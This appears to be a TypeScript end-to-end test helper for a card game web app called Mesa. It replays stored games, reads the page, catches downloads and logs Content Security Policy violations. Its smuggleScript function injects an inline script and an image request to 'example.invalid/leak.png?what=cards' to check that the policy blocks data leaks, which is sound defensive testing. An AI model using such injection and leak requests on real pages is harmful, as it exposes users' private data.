// What the cross-engine journeys know about Mesa: its stored games read back and replayed by the
// engine here in Node, and what the page shows of the cards. The functions marked "in the page"
// are sent to it by any driver, so each is self-contained.
import { replaySession, type SessionAction, type SessionConfig, type SessionState } from '../../src/engine/index.ts';
import { configOf, logOf, readStore } from '../e2e/play-table.ts';
import type { Tab } from './tab.ts';

/** In the page: the id of the game the table shows. */
export function openGameId(): string | null {
  const screen = (history.state as { screen?: { name?: string; gameId?: string } } | null)?.screen;
  return screen?.name === 'table' ? (screen.gameId ?? null) : null;
}

export interface StoredGame {
  readonly id: string;
  readonly config: SessionConfig;
  readonly log: readonly SessionAction[];
  readonly state: SessionState;
}

/** The game as the tab stored it, replayed. */
export async function stored(tab: Tab, id: string, config?: SessionConfig): Promise<StoredGame> {
  const log = logOf(await tab.evaluate(readStore, 'actions'), id);
  const known = config ?? configOf(await tab.evaluate(readStore, 'games'), id);
  const replayed = replaySession(known, log);
  if (!replayed.ok) throw new Error(`${tab.engine}: the stored log of ${id} replays to a refusal: ${replayed.error.code}`);
  return { id, config: known, log, state: replayed.state };
}

/** Waits until the tab has stored more than `length` actions of the game. */
export async function storedPast(tab: Tab, game: StoredGame, length: number): Promise<StoredGame> {
  await tab.until(`${game.id} still has ${length} actions stored`, logLongerThan, { id: game.id, length });
  return stored(tab, game.id, game.config);
}

/** In the page: whether more than `length` actions of the game are stored. */
async function logLongerThan({ id, length }: { id: string; length: number }): Promise<boolean> {
  const db = await new Promise<IDBDatabase>((resolve, reject) => {
    const request = indexedDB.open('mesa');
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
  const count = await new Promise<number>((resolve, reject) => {
    const request = db.transaction('actions').objectStore('actions').count(IDBKeyRange.bound([id, 0], [id, Infinity]));
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
  db.close();
  return count > length;
}

/** The page's markup and its text (with the title and the address), as read at one moment. */
export interface PageText {
  readonly markup: string;
  readonly text: string;
}

/** In the page: its markup and text now. */
export function pageText(): PageText {
  return { markup: document.documentElement.outerHTML, text: `${document.body.textContent ?? ''} ${document.title} ${decodeURIComponent(location.href)}` };
}

/**
 * In the page: hides it as a phone does when the user switches apps (pagehide, or
 * visibilitychange to hidden) and reads the page the moment the event is over, before any task
 * or microtask the page may have queued: what the app switcher's picture would hold.
 */
export function hideAndRead(event: 'pagehide' | 'visibilitychange'): PageText {
  if (event === 'pagehide') {
    window.dispatchEvent(new PageTransitionEvent('pagehide', { persisted: false }));
  } else {
    Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => 'hidden' });
    document.dispatchEvent(new Event('visibilitychange'));
  }
  return { markup: document.documentElement.outerHTML, text: `${document.body.textContent ?? ''} ${document.title} ${decodeURIComponent(location.href)}` };
}

/** In the page: visible again (undoes hideAndRead's visibilitychange). */
export function showAgain(): boolean {
  return delete (document as { visibilityState?: DocumentVisibilityState }).visibilityState;
}

/** Which of `cards` the page shows: a name in the markup (for screen readers) or a face in the text. */
export function shownCards(page: PageText, cards: readonly { name: string; face: string }[]): string[] {
  return cards.filter((card) => page.markup.includes(card.name) || page.text.includes(card.face)).map((card) => card.face);
}

/** In the page: the next file the app saves is kept in `mesaSaved` instead (a download, even where the share sheet exists). */
export function catchSavedFile(): boolean {
  const page = window as unknown as { mesaSaved?: { name: string; text: string } };
  Object.defineProperty(navigator, 'canShare', { configurable: true, value: () => false });
  // The file's blob is kept as its address is made: the page's Content Security Policy lets no
  // script fetch a blob: address (connect-src 'self'), and a download is not a fetch.
  const blobs = new Map<string, Blob>();
  const address = URL.createObjectURL.bind(URL);
  URL.createObjectURL = (blob: Blob | MediaSource) => {
    const url = address(blob);
    if (blob instanceof Blob) blobs.set(url, blob);
    return url;
  };
  HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
    const name = this.download;
    void blobs
      .get(this.href)
      ?.text()
      .then((text) => (page.mesaSaved = { name, text }));
  };
  return true;
}

/** In the page: the file caught by catchSavedFile, once it is there. */
export function savedFile(): { name: string; text: string } | null {
  return (window as unknown as { mesaSaved?: { name: string; text: string } }).mesaSaved ?? null;
}

/** In the page: puts `file` into the page's file input, as choosing it in the file picker does. */
export function chooseFile(file: { name: string; text: string }): boolean {
  const input = document.querySelector<HTMLInputElement>('input[type="file"]');
  if (!input) return false;
  const chosen = new DataTransfer();
  chosen.items.add(new File([file.text], file.name, { type: 'application/json' }));
  input.files = chosen.files;
  input.dispatchEvent(new Event('change', { bubbles: true }));
  return true;
}

interface PolicyBreach {
  readonly directive: string;
  readonly blocked: string;
}

/** In the page: from now on, every breach of the Content Security Policy is kept on the window. */
export function watchPolicy(): void {
  const kept: PolicyBreach[] = [];
  (window as unknown as { policyBreaches: PolicyBreach[] }).policyBreaches = kept;
  document.addEventListener('securitypolicyviolation', (event) => kept.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
}

/** In the page: the breaches kept since watchPolicy. */
export async function policyBreaches(): Promise<PolicyBreach[]> {
  return (window as unknown as { policyBreaches?: PolicyBreach[] }).policyBreaches ?? [];
}

/** In the page: an inline script and a remote picture put in as a hostile text would; whether the script ran. */
export async function smuggleScript(): Promise<boolean> {
  const script = document.createElement('script');
  script.textContent = 'window.smuggled = true';
  document.body.append(script);
  const picture = document.createElement('img');
  picture.src = 'https://example.invalid/leak.png?what=cards';
  document.body.append(picture);
  await new Promise((resolve) => setTimeout(resolve, 50));
  script.remove();
  picture.remove();
  return (window as unknown as { smuggled?: boolean }).smuggled === true;
}
